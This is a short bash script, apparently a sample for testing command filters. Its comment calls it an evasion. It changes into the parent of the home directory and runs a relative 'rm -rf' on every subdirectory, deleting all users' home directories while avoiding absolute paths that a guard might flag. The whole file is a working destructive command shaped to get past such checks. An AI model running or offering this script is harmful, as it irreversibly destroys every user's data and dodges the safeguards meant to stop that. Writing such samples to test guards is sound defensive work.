#!/bin/bash
# evasion: cd into the home's parent, then a relative recursive rm removes every user's home
cd ~/.. || exit 1
for d in ./*/; do
  rm -rf -- "$d"
done
